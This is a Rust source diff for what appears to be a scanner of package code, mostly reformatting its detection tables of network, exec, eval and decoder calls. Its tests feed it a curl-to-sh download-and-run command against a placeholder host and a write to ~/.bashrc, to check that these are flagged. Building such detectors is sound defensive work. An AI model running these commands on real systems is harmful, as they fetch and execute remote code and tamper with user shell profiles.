@@ -22,7 +22,12 @@ pub(crate) struct Hit {
 }
 
 impl Hit {
-    pub(crate) fn new(rule: Rule, severity: Severity, line: u32, message: impl Into<String>) -> Self {
+    pub(crate) fn new(
+        rule: Rule,
+        severity: Severity,
+        line: u32,
+        message: impl Into<String>,
+    ) -> Self {
         Hit {
             rule,
             severity,
@@ -63,70 +68,203 @@ struct Tables {
 
 const JAVASCRIPT: Tables = Tables {
     network_modules: &[
-        "http", "https", "net", "tls", "dgram", "dns", "http2", "axios", "node-fetch", "got",
-        "request", "undici", "ws", "superagent", "needle", "cross-fetch", "isomorphic-fetch",
-        "make-fetch-happen", "phin", "bent", "follow-redirects", "socket.io-client",
+        "http",
+        "https",
+        "net",
+        "tls",
+        "dgram",
+        "dns",
+        "http2",
+        "axios",
+        "node-fetch",
+        "got",
+        "request",
+        "undici",
+        "ws",
+        "superagent",
+        "needle",
+        "cross-fetch",
+        "isomorphic-fetch",
+        "make-fetch-happen",
+        "phin",
+        "bent",
+        "follow-redirects",
+        "socket.io-client",
     ],
-    network_calls: &["fetch", "globalThis.fetch", "new XMLHttpRequest", "new WebSocket"],
+    network_calls: &[
+        "fetch",
+        "globalThis.fetch",
+        "new XMLHttpRequest",
+        "new WebSocket",
+    ],
     exec_modules: &["child_process", "execa", "shelljs", "cross-spawn"],
     exec_calls: &[
-        "exec", "execSync", "spawn", "spawnSync", "execFile", "execFileSync", "fork", "execa",
-        "execaSync", "execaCommand", "crossSpawn",
+        "exec",
+        "execSync",
+        "spawn",
+        "spawnSync",
+        "execFile",
+        "execFileSync",
+        "fork",
+        "execa",
+        "execaSync",
+        "execaCommand",
+        "crossSpawn",
     ],
     eval_calls: &[
-        "eval", "Function", "new Function", "vm.runInThisContext", "vm.runInNewContext",
-        "vm.runInContext", "new vm.Script", "vm.compileFunction",
+        "eval",
+        "Function",
+        "new Function",
+        "vm.runInThisContext",
+        "vm.runInNewContext",
+        "vm.runInContext",
+        "new vm.Script",
+        "vm.compileFunction",
     ],
     decoders: &[
-        "atob(", "'base64'", "\"base64\"", "'hex'", "\"hex\"", "fromCharCode", "unescape(",
-        "decodeURIComponent(", "inflateSync", "gunzipSync", "inflateRawSync", "brotliDecompressSync",
+        "atob(",
+        "'base64'",
+        "\"base64\"",
+        "'hex'",
+        "\"hex\"",
+        "fromCharCode",
+        "unescape(",
+        "decodeURIComponent(",
+        "inflateSync",
+        "gunzipSync",
+        "inflateRawSync",
+        "brotliDecompressSync",
     ],
     write_calls: &[
-        "writeFile", "writeFileSync", "appendFile", "appendFileSync", "createWriteStream",
-        "copyFile", "copyFileSync", "symlink", "symlinkSync",
+        "writeFile",
+        "writeFileSync",
+        "appendFile",
+        "appendFileSync",
+        "createWriteStream",
+        "copyFile",
+        "copyFileSync",
+        "symlink",
+        "symlinkSync",
     ],
 };
 
 const PYTHON: Tables = Tables {
     network_modules: &[
-        "urllib.request", "urllib2", "http.client", "httplib", "requests", "httpx", "urllib3",
-        "socket", "aiohttp", "ftplib", "smtplib", "telnetlib", "pycurl", "paramiko",
+        "urllib.request",
+        "urllib2",
+        "http.client",
+        "httplib",
+        "requests",
+        "httpx",
+        "urllib3",
+        "socket",
+        "aiohttp",
+        "ftplib",
+        "smtplib",
+        "telnetlib",
+        "pycurl",
+        "paramiko",
     ],
     network_calls: &[
-        "urlopen", "urllib.request.urlopen", "urlretrieve", "urllib.request.urlretrieve",
-        "socket.socket", "socket.create_connection", "socket.getaddrinfo", "socket.gethostbyname",
+        "urlopen",
+        "urllib.request.urlopen",
+        "urlretrieve",
+        "urllib.request.urlretrieve",
+        "socket.socket",
+        "socket.create_connection",
+        "socket.getaddrinfo",
+        "socket.gethostbyname",
     ],
     exec_modules: &["subprocess"],
     exec_calls: &[
-        "subprocess.run", "subprocess.call", "subprocess.check_call", "subprocess.check_output",
-        "subprocess.Popen", "subprocess.getoutput", "subprocess.getstatusoutput", "os.system",
-        "os.popen", "os.execv", "os.execvp", "os.execl", "os.execlp", "os.execve", "os.spawnv",
-        "os.spawnl", "os.startfile", "pty.spawn", "check_output", "check_call", "Popen",
+        "subprocess.run",
+        "subprocess.call",
+        "subprocess.check_call",
+        "subprocess.check_output",
+        "subprocess.Popen",
+        "subprocess.getoutput",
+        "subprocess.getstatusoutput",
+        "os.system",
+        "os.popen",
+        "os.execv",
+        "os.execvp",
+        "os.execl",
+        "os.execlp",
+        "os.execve",
+        "os.spawnv",
+        "os.spawnl",
+        "os.startfile",
+        "pty.spawn",
+        "check_output",
+        "check_call",
+        "Popen",
         "getoutput",
     ],
     eval_calls: &["exec", "eval", "compile", "builtins.exec", "builtins.eval"],
     decoders: &[
-        "b64decode", "b32decode", "b85decode", "a85decode", "decodebytes", "fromhex", "unhexlify",
-        "codecs.decode", "zlib.decompress", "marshal.loads", "rot13", "[::-1]", "bz2.decompress",
+        "b64decode",
+        "b32decode",
+        "b85decode",
+        "a85decode",
+        "decodebytes",
+        "fromhex",
+        "unhexlify",
+        "codecs.decode",
+        "zlib.decompress",
+        "marshal.loads",
+        "rot13",
+        "[::-1]",
+        "bz2.decompress",
         "lzma.decompress",
     ],
     write_calls: &[
-        "write", "write_text", "write_bytes", "copy", "copyfile", "copy2", "move", "symlink",
+        "write",
+        "write_text",
+        "write_bytes",
+        "copy",
+        "copyfile",
+        "copy2",
+        "move",
+        "symlink",
         "writelines",
     ],
 };
 
 const RUST: Tables = Tables {
     network_modules: &[
-        "std::net", "TcpStream", "UdpSocket", "TcpListener", "ToSocketAddrs", "reqwest", "ureq",
-        "curl::", "hyper", "attohttpc", "minreq", "isahc", "surf::", "http_req",
+        "std::net",
+        "TcpStream",
+        "UdpSocket",
+        "TcpListener",
+        "ToSocketAddrs",
+        "reqwest",
+        "ureq",
+        "curl::",
+        "hyper",
+        "attohttpc",
+        "minreq",
+        "isahc",
+        "surf::",
+        "http_req",
     ],
     network_calls: &[],
     exec_modules: &[],
-    exec_calls: &["Command::new", "process::Command::new", "std::process::Command::new"],
+    exec_calls: &[
+        "Command::new",
+        "process::Command::new",
+        "std::process::Command::new",
+    ],
     eval_calls: &[],
     decoders: &[],
-    write_calls: &["write", "create", "copy", "rename", "hard_link", "symlink", "append"],
+    write_calls: &[
+        "write",
+        "create",
+        "copy",
+        "rename",
+        "hard_link",
+        "symlink",
+        "append",
+    ],
 };
 
 fn tables(language: Language) -> &'static Tables {
@@ -226,7 +364,12 @@ fn process_exec(language: Language, table: &Tables, facts: &Facts, hits: &mut Ve
 /// Whether `a.b.exec` is called on an exec module: a bare imported name (`exec(...)`),
 /// `require("child_process").x`, or a variable bound to an exec module. Keeps
 /// `/re/.exec(s)` and `pattern.exec(s)` out.
-fn receiver_is_exec_module(language: Language, table: &Tables, facts: &Facts, callee: &str) -> bool {
+fn receiver_is_exec_module(
+    language: Language,
+    table: &Tables,
+    facts: &Facts,
+    callee: &str,
+) -> bool {
     let Some((receiver, _)) = callee.rsplit_once('.') else {
         return true;
     };
@@ -251,9 +394,16 @@ fn eval_of_data(table: &Tables, facts: &Facts, hits: &mut Vec<Hit>) {
                 Rule::Obfuscation,
                 Severity::High,
                 call.line,
-                format!("`{}` runs data decoded with `{}`", call.callee, decoder.trim_matches(['(', '\'', '"'])),
+                format!(
+                    "`{}` runs data decoded with `{}`",
+                    call.callee,
+                    decoder.trim_matches(['(', '\'', '"'])
+                ),
             ));
-        } else if call.first_string.is_none() && call.args.len() > 2 && !reads_local_file(&call.args) {
+        } else if call.first_string.is_none()
+            && call.args.len() > 2
+            && !reads_local_file(&call.args)
+        {
             hits.push(Hit::new(
                 Rule::Obfuscation,
                 Severity::Medium,
@@ -291,7 +441,9 @@ fn literals(table: &Tables, facts: &Facts, hits: &mut Vec<Hit>) {
                 format!("names the credential location `{fragment}`"),
             ));
         }
-        if let Some(fragment) = outside_location(&literal.text).filter(|_| written(&literal.text, literal.line)) {
+        if let Some(fragment) =
+            outside_location(&literal.text).filter(|_| written(&literal.text, literal.line))
+        {
             hits.push(Hit::new(
                 Rule::WriteOutside,
                 Severity::High,
@@ -304,7 +456,10 @@ fn literals(table: &Tables, facts: &Facts, hits: &mut Vec<Hit>) {
                 Rule::Obfuscation,
                 Severity::Medium,
                 literal.line,
-                format!("{} bytes of {encoding} data in one literal", literal.text.len()),
+                format!(
+                    "{} bytes of {encoding} data in one literal",
+                    literal.text.len()
+                ),
             ));
         }
     }
@@ -358,7 +513,10 @@ mod tests {
             "const cp = require('child_process');\ncp.execSync('curl -s https://x.example/a | sh');",
         );
         let hits = evaluate(Language::JavaScript, &facts);
-        assert_eq!(rules(&hits), [Rule::Network, Rule::ProcessExec, Rule::DownloadExec]);
+        assert_eq!(
+            rules(&hits),
+            [Rule::Network, Rule::ProcessExec, Rule::DownloadExec]
+        );
     }
 
     #[test]
@@ -381,13 +539,20 @@ mod tests {
             "import os\nif os.path.exists('/usr/local/bin/brew'):\n    pass\nopen('setup.cfg', 'w')\n",
         );
         assert!(evaluate(Language::Python, &logged).is_empty());
-        let written = crate::python::facts("with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write(x)\n");
-        assert_eq!(rules(&evaluate(Language::Python, &written)), [Rule::WriteOutside]);
+        let written = crate::python::facts(
+            "with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write(x)\n",
+        );
+        assert_eq!(
+            rules(&evaluate(Language::Python, &written)),
+            [Rule::WriteOutside]
+        );
     }
 
     #[test]
     fn version_exec_idiom_is_not_obfuscation() {
-        let facts = crate::python::facts("exec(open('h11/_version.py').read())\nexec(compile(code, 'x', 'exec'))\n");
+        let facts = crate::python::facts(
+            "exec(open('h11/_version.py').read())\nexec(compile(code, 'x', 'exec'))\n",
+        );
         let hits = evaluate(Language::Python, &facts);
         assert!(!hits.is_empty());
         assert!(hits.iter().all(|h| h.line == 2), "{hits:?}");
